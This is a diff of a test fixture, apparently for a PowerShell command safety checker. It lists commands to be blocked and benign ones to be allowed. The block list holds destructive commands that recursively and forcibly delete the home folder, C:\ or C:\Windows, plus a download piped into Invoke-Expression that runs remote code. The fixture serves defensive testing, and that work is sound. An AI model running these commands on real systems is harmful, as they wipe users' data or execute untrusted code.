@@ -15,6 +15,9 @@ Invoke-WebRequest https://x/y -UseBasicParsing | Invoke-Expression
 ri -r -fo ~
 ri -Recurse -Force ~
 ri ~ -rec
+Remove-Item $HOME
+Remove-Item C:\
+Remove-Item -Force ..
 Remove-Item -Recurse -Force C:\
 Remove-Item -Recurse -Force C:\Windows
 Remove-Item -Recurse -Force $env:USERPROFILE
@@ -66,7 +69,7 @@ Grant-Everything; Get-Date
 Invoke-Something -Now
 Get-Date; )
 ConvertFrom-Json (Get-Content a.json -Raw)
-Get-Date; echo 'x
+Get-Date; echo 'x; y
 echo Remove-Item | pwsh -Command -
 `,
     pass: String.raw`
@@ -82,6 +85,9 @@ Copy-Item a.txt b.txt
 Set-Location src; Get-Location
 Remove-Item -Recurse -Force build
 Remove-Item -Recurse .\node_modules
+Remove-Item ~/notes.txt
+Remove-Item C:\x.txt
+Remove-Item .git/hooks/pre-push
 Remove-Item a.txt
 ri a.txt
 ri String
